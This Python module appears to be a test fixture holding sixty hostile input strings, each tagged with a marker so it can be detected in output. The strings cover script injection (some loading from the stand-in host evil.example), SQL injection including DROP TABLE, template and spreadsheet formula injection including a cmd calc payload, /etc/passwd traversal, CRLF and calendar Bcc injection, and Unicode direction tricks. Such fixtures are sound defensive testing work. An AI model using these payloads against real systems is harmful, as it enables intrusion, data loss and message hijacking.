"""Sixty texts that somebody may type who means harm, and the sign by which each is known again."""

SIGN = "zq7"
"""Ends every text that is typed; it stands in nothing of ours."""

TAGS = (
    "<script>alert(1)</script>",
    "<ScRiPt sRc=//evil.example/x.js></sCrIpT>",
    "<<script>alert(1);//<</script>",
    "</script><script>alert(1)</script>",
    "</title></head><script>alert(1)</script>",
    "</style><img src=x onerror=alert(1)>",
    "</textarea><svg onload=alert(1)>",
    "</select></option><img src=x onerror=alert(1)>",
    "--><img src=x onerror=alert(1)>",
    "]]><img src=x onerror=alert(1)>",
    "<img/onerror=alert(1)/src=x>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=password autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<template><img src=x onerror=alert(1)></template><slot onslotchange=alert(1)>",
    "<blink>bold</blink><u>",
)
ATTRIBUTES = (
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onload=`alert(1)",
    '" style="position:fixed;inset:0;background:url(//evil.example)',
    '"/><script>alert(1)</script><x y="',
    "x onpointerenter=alert(1) ",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "jav\tascript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/\\@good.example",
    'https://good.example/" onclick="alert(1)',
)
PROGRAMS = (
    "';alert(1);//",
    '"};alert(1);//',
    "${alert(1)}",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "</style>*{background:url(//evil.example)}",
    "};@import'//evil.example/x.css';x{",
    "{{ 7*7 }}",
    "{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}",
    "{customer.__class__} %(name)s %s #{7*7} <%= 7*7 %>",
)
DATA = (
    "'; DROP TABLE booking; --",
    "' OR '1'='1",
    "%' UNION SELECT sql FROM sqlite_master --",
    '=HYPERLINK("https://evil.example","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "../../../../etc/passwd",
)
LINES = (
    "x\r\nBcc: victim@evil.example",
    "x\nEND:VEVENT\nBEGIN:VEVENT\nATTENDEE:mailto:victim@evil.example",
    "x\rATTENDEE:mailto:victim@evil.example",
    'x;CN="a\\,b\\;c":mailto:victim@evil.example',
    "=?utf-8?q?=0D=0ABcc:_victim@evil.example?=",
)
SIGNS = (
    "\u202egnp.exe\u202c \u2066x\u2069",
    "a\u200b\u200d\ufeff\u00adb \ud7ff\uffff",
)

PAYLOADS = (*TAGS, *ATTRIBUTES, *ADDRESSES, *PROGRAMS, *DATA, *LINES, *SIGNS)


def signed(payload: str) -> str:
    """The text as it is typed."""
    return payload + SIGN
